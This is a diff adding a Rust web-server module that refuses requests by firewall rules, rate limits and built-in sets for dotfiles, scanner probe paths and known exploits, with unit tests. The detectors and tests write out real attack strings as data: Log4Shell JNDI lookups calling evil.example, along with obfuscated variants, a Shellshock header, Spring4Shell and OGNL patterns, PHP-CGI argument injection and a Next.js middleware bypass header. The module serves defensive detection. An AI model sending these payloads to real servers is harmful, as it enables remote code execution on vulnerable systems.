@@ -1,0 +1,313 @@
+//! Who is refused before anything of the site is looked at: by a rule, by a set of known attacks, or for asking too often.
+
+use std::{borrow::Cow, time::Duration};
+
+use hyper::{
+    HeaderMap,
+    header::{CONTENT_TYPE, USER_AGENT},
+    http::request::Parts,
+};
+use percent_encoding::percent_decode_str;
+
+use super::{super::page::Refusal, Gate};
+use crate::{
+    base::network,
+    domain::{
+        policy,
+        site_settings::{
+            firewall::{Action, Firewall, Rule, Set},
+            limits::{Limits, Per},
+        },
+    },
+    serve::rates::Pace,
+};
+
+/// One line in the log for each rule in this time: whoever floods a site does not flood the log.
+const TOLD: Pace = Pace { times: 1, every: Duration::from_mins(1) };
+
+/// Why this request is refused, if it is.
+pub(super) fn refused(gate: &Gate<'_>) -> Option<Refusal> {
+    let (limits, firewall) = (&gate.settings.limits, &gate.settings.firewall);
+    if *limits == Limits::default() && *firewall == Firewall::default() {
+        return None;
+    }
+    let client = gate.asked.client().address;
+    if limits.exempt.iter().any(|it| it.contains(client)) {
+        return None;
+    }
+    let seen = Seen::new(gate.asked.parts);
+    let refusal = by_rule(gate, &seen, client).or_else(|| by_rate(gate, &seen, client))?;
+    if let Some(ban) = limits.ban {
+        let pace = Pace { times: ban.after, every: Duration::from_secs(ban.within_s.into()) };
+        // The last refusal that is borne is the one before the number that is set.
+        let borne = Pace { times: pace.times.saturating_sub(1), ..pace };
+        let key = ("strike", gate.target.site, network::counted(client));
+        if borne.times == 0 || gate.rates.take(key, borne).is_err() {
+            gate.bans.make(gate.target.site, client, Duration::from_secs(ban.for_s.into()));
+        }
+    }
+    Some(refusal)
+}
+
+fn by_rule(gate: &Gate<'_>, seen: &Seen<'_>, client: std::net::IpAddr) -> Option<Refusal> {
+    let firewall = &gate.settings.firewall;
+    let rule = firewall.rules.iter().find(|it| seen.fits(it, client)).map(|it| (it.name.as_str(), it.action));
+    let set = || firewall.sets.iter().find(|it| seen.is_of(**it)).map(|it| (word(*it), firewall.sets_do));
+    let (name, action) = rule.or_else(set)?;
+    if action == Action::Allow {
+        return None;
+    }
+    if gate.rates.take(("told", gate.target.site, name), TOLD).is_ok() {
+        let (site, path) = (&gate.target.name, gate.asked.parts.uri.path());
+        tracing::info!(%site, rule = name, %client, path, ?action, "a request fits a rule of the site; the next ones of this minute are not told");
+    }
+    (action == Action::Block).then_some(Refusal::Blocked)
+}
+
+fn by_rate(gate: &Gate<'_>, seen: &Seen<'_>, client: std::net::IpAddr) -> Option<Refusal> {
+    let mut longest = None;
+    for rate in &gate.settings.limits.rates {
+        if !seen.is_method(&rate.methods) || !policy::fits(&rate.path, &seen.path) {
+            continue;
+        }
+        let who = match rate.per {
+            Per::Address => Some(network::counted(client)),
+            Per::Site => None,
+        };
+        let pace = Pace { times: rate.requests, every: Duration::from_secs(rate.every_s.into()) };
+        let key = (gate.target.site, rate.path.as_str(), &rate.methods, rate.requests, rate.every_s, who);
+        longest = longest.max(gate.rates.take(key, pace).err());
+    }
+    longest.map(Refusal::TooMany)
+}
+
+const fn word(set: Set) -> &'static str {
+    match set {
+        Set::Dotfiles => "dotfiles",
+        Set::Probes => "probes",
+        Set::Exploits => "exploits",
+    }
+}
+
+/// A request as rules look at it.
+struct Seen<'a> {
+    parts: &'a Parts,
+    /// Decoded as far as it can be, in small letters, each row of slashes as one: what hides behind a way of writing is seen.
+    path: String,
+}
+
+impl<'a> Seen<'a> {
+    fn new(parts: &'a Parts) -> Self {
+        let decoded = percent_decode_str(parts.uri.path()).decode_utf8_lossy();
+        let mut path = String::with_capacity(decoded.len());
+        for letter in decoded.chars() {
+            let letter = if letter == '\\' { '/' } else { letter.to_ascii_lowercase() };
+            if letter != '/' || !path.ends_with('/') {
+                path.push(letter);
+            }
+        }
+        Self { parts, path }
+    }
+
+    fn query(&self) -> &'a str {
+        self.parts.uri.query().unwrap_or_default()
+    }
+
+    fn is_method(&self, methods: &[String]) -> bool {
+        methods.is_empty() || methods.iter().any(|it| it == self.parts.method.as_str())
+    }
+
+    fn fits(&self, rule: &Rule, client: std::net::IpAddr) -> bool {
+        self.is_method(&rule.methods)
+            && (rule.from.is_empty() || rule.from.iter().any(|it| it.contains(client)))
+            && rule.query_has.as_ref().is_none_or(|it| self.query().contains(it.as_str()))
+            && rule.agent_has.as_ref().is_none_or(|it| self.is_agent(it))
+            && policy::fits(&rule.path, &self.path)
+    }
+
+    fn is_agent(&self, part: &str) -> bool {
+        let agent = text(&self.parts.headers, &USER_AGENT);
+        if part.is_empty() { agent.is_empty() } else { agent.to_ascii_lowercase().contains(&part.to_ascii_lowercase()) }
+    }
+
+    fn is_of(&self, set: Set) -> bool {
+        match set {
+            Set::Dotfiles => self.is_dotfile(),
+            Set::Probes => self.is_probe(),
+            Set::Exploits => self.is_exploit(),
+        }
+    }
+
+    fn is_dotfile(&self) -> bool {
+        self.path.split('/').any(|it| it.len() > 1 && it.starts_with('.') && !matches!(it, ".." | ".well-known"))
+    }
+
+    fn is_probe(&self) -> bool {
+        PROBES.iter().any(|it| match it.strip_suffix('/') {
+            Some(folder) => self.path.starts_with(it) || self.path.strip_prefix(folder).is_some_and(str::is_empty),
+            None => self.path == *it,
+        })
+    }
+
+    fn is_exploit(&self) -> bool {
+        let query = percent_decode_str(self.query()).decode_utf8_lossy().to_ascii_lowercase();
+        let headers = &self.parts.headers;
+        let lookup = |it: &str| asks_jndi(it);
+        lookup(&self.path)
+            || lookup(&query)
+            || headers.values().any(|it| {
+                let value = String::from_utf8_lossy(it.as_bytes());
+                value.trim_start().starts_with("() {") || (value.contains("${") && lookup(&value.to_ascii_lowercase()))
+            })
+            || query.contains("class.module.classloader")
+            || ["%{", "${"].iter().any(|it| text(headers, &CONTENT_TYPE).contains(it))
+            || self.is_php_cgi()
+            || headers.contains_key("x-middleware-subrequest")
+    }
+
+    /// A query without `=` that begins with a hyphen, or with the soft one that a Windows code page makes a hyphen of, is a switch
+    /// of the command line for a PHP that runs as CGI.
+    fn is_php_cgi(&self) -> bool {
+        let query = self.query().to_ascii_lowercase();
+        let is_switch = ["-", "%2d", "%ad", "%c2%ad"].iter().any(|it| query.starts_with(it));
+        is_switch && (self.path.contains(".php") || self.path.contains("php-cgi"))
+    }
+}
+
+/// What scanners look for: files and, with a slash behind, folders.
+const PROBES: [&str; 26] = [
+    "/_ignition/execute-solution",
+    "/actuator/",
+    "/adminer.php",
+    "/boaform/",
+    "/cgi-bin/",
+    "/config.json.bak",
+    "/console/",
+    "/debug/default/view",
+    "/geoserver/",
+    "/hnap1/",
+    "/jenkins/",
+    "/manager/html",
+    "/owa/",
+    "/phpinfo.php",
+    "/phpmyadmin/",
+    "/pma/",
+    "/server-status",
+    "/shell",
+    "/solr/",
+    "/telescope/requests",
+    "/vendor/phpunit/",
+    "/wp-admin/",
+    "/wp-config.php",
+    "/wp-content/",
+    "/wp-login.php",
+    "/xmlrpc.php",
+];
+
+/// Whether a text in small letters has Log4j look something up by JNDI, also where other lookups spell the word.
+fn asks_jndi(text: &str) -> bool {
+    let Some(begin) = text.find("${") else { return false };
+    let mut rest: Cow<'_, str> = Cow::Borrowed(text.get(begin..).unwrap_or_default());
+    // The innermost lookups stand for their last part, `${lower:j}` for `j`. Each round resolves one; a few hide a word already.
+    for _ in 0..64 {
+        if rest.contains("${jndi:") {
+            return true;
+        }
+        let Some(open) = rest.rfind("${") else { return false };
+        let Some(inner) = rest.get(open + 2..) else { return false };
+        let Some(close) = inner.find('}') else { return false };
+        let (word, behind) = (inner.get(..close).unwrap_or_default(), inner.get(close + 1..).unwrap_or_default());
+        let stands_for = word.rsplit(['-', ':']).next().unwrap_or_default();
+        rest = Cow::Owned(format!("{}{stands_for}{behind}", rest.get(..open).unwrap_or_default()));
+    }
+    false
+}
+
+fn text<'h>(headers: &'h HeaderMap, name: &hyper::header::HeaderName) -> &'h str {
+    headers.get(name).and_then(|it| it.to_str().ok()).unwrap_or_default()
+}
+
+#[cfg(test)]
+mod tests {
+    use hyper::Request;
+
+    use super::*;
+
+    fn parts(uri: &str, headers: &[(&str, &str)]) -> Parts {
+        let mut request = Request::builder().uri(uri);
+        for (name, value) in headers {
+            request = request.header(*name, *value);
+        }
+        request.body(()).unwrap().into_parts().0
+    }
+
+    #[test]
+    fn known_attacks_are_known_and_what_visitors_ask_is_none() {
+        for (set, uri, headers, wanted) in [
+            (Set::Dotfiles, "/.env", &[][..], true),
+            (Set::Dotfiles, "/a/.GIT/config", &[], true),
+            (Set::Dotfiles, "/%2eenv", &[], true),
+            (Set::Dotfiles, "//.env.production", &[], true),
+            (Set::Dotfiles, "/a%5c.env", &[], true),
+            (Set::Dotfiles, "/.well-known/security.txt", &[], false),
+            (Set::Dotfiles, "/a.env", &[], false),
+            (Set::Dotfiles, "/a/./b/../c", &[], false),
+            (Set::Probes, "/WP-login.php", &[], true),
+            (Set::Probes, "//wp-admin/setup-config.php", &[], true),
+            (Set::Probes, "/wp-admin", &[], true),
+            (Set::Probes, "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", &[], true),
+            (Set::Probes, "/consoles", &[], false),
+            (Set::Probes, "/blog/wp-login.php-explained", &[], false),
+            (Set::Probes, "/", &[], false),
+            (Set::Exploits, "/", &[("user-agent", "${jndi:ldap://evil.example/a}")], true),
+            (Set::Exploits, "/?x=%24%7Bjndi%3Aldap%3A%2F%2Fevil.example%2Fa%7D", &[], true),
+            (Set::Exploits, "/", &[("x-api", "${${lower:j}${upper:n}d${::-i}:ldap://e}")], true),
+            (Set::Exploits, "/", &[("x-api", "${${env:NaN:-j}ndi${env:NaN:-:}rmi://e}")], true),
+            (Set::Exploits, "/?price=${amount}", &[("user-agent", "curl/8 ${version}")], false),
+            (Set::Exploits, "/cgi", &[("user-agent", "() { :; }; echo x")], true),
+            (Set::Exploits, "/?class.module.classLoader.resources.context.parent.pipeline=x", &[], true),
+            (Set::Exploits, "/", &[("content-type", "%{(#nike='multipart/form-data')}")], true),
+            (Set::Exploits, "/index.php?-d+allow_url_include%3d1", &[], true),
+            (Set::Exploits, "/index.php?%ADd+allow_url_include%3d1", &[], true),
+            (Set::Exploits, "/search?-negative", &[], false),
+            (Set::Exploits, "/admin", &[("x-middleware-subrequest", "middleware")], true),
+            (Set::Exploits, "/?class=module&q=jndi", &[("content-type", "multipart/form-data")], false),
+        ] {
+            let parts = parts(uri, headers);
+            assert_eq!(Seen::new(&parts).is_of(set), wanted, "{set:?} {uri} {headers:?}");
+        }
+    }
+
+    #[test]
+    fn a_rule_fits_what_fits_all_that_it_names() {
+        let rule = |more: &str| serde_json::from_str::<Rule>(&format!("{{\"name\":\"a\"{more}}}")).unwrap();
+        let client = "192.0.2.1".parse().unwrap();
+        for (more, uri, headers, wanted) in [
+            (r#","path":"/admin/*""#, "/ADMIN/x", &[][..], true),
+            (r#","path":"/admin/*""#, "//admin//x", &[], true),
+            (r#","path":"/admin/*""#, "/%61dmin/x", &[], true),
+            (r#","path":"/admin/*""#, "/administration", &[], false),
+            (r#","path":"/admin/*","methods":["POST"]"#, "/admin/x", &[], false),
+            (r#","methods":["GET"],"path":"/a""#, "/a", &[], true),
+            (r#","agent_has":"badbot""#, "/", &[("user-agent", "Mozilla/5.0 BadBot/1")], true),
+            (r#","agent_has":"badbot""#, "/", &[], false),
+            (r#","agent_has":"""#, "/", &[], true),
+            (r#","agent_has":"""#, "/", &[("user-agent", "x")], false),
+            (r#","query_has":"debug=1""#, "/?a&debug=1", &[], true),
+            (r#","query_has":"debug=1""#, "/?a", &[], false),
+            (r#","from":["192.0.2.0/24"]"#, "/", &[], true),
+            (r#","from":["198.51.100.0/24"]"#, "/", &[], false),
+        ] {
+            let parts = parts(uri, headers);
+            assert_eq!(Seen::new(&parts).fits(&rule(more), client), wanted, "{more} {uri}");
+        }
+    }
+
+    #[test]
+    fn a_text_full_of_lookups_is_read_in_bounded_time() {
+        let long = "${".repeat(4_000);
+        assert!(!asks_jndi(&long));
+        let long = format!("{}{}", "${a:".repeat(4_000), "}".repeat(4_000));
+        assert!(!asks_jndi(&long));
+    }
+}
